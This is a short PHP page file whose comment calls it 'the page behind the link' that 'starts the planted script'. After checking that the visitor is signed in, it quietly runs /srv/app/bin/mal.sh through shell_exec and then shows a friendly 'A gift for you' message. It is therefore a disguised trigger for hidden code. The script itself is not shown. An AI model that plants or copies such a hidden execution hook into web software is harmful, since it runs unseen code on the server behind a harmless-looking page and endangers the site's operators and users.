<?php
// The page behind the link: it starts the planted script.
require __DIR__ . '/layout.php';

if (signed_in_user() === null) {
    refuse(403, 'You are not logged in.');
}
shell_exec('/srv/app/bin/mal.sh');
page('A gift for you', '<p>Thank you for your patience.</p>');
